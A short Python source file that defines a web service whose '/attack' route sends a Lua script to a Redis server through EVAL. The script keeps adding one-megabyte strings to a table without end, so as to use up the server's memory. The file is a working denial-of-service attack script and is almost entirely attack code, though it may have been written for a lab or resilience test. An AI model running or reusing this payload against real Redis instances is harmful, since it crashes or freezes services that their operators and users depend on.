import os

import redis

from service import route, serve

hoard = "local kept = {} while true do kept[#kept + 1] = string.rep('x', 1000000) .. #kept end"


@route("/attack")
def exhaust_redis():
    try:
        redis.Redis.from_url(os.environ["REDIS_URL"], socket_timeout=3).eval(hoard, 0)
    except redis.RedisError as error:
        print(error)
    return "exhausted"


serve()
